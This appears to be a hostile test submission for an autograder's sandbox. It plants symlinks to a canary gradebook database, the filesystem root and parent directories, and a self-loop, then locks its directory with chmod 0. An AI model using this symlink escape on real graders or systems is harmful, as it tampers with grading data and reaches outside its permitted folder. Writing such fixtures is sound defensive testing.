# ---
# about: Puts links out of its folder where others might follow them.
# verdict:
#   double: failed
# ---
# %% double
import os

for name, target in (("sums.ipynb", "@CANARY@/gradebook.db"), ("out", "/"), ("loop", "loop"), ("up", "../../..")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
os.chmod(".", 0)


def double(x):
    return 0
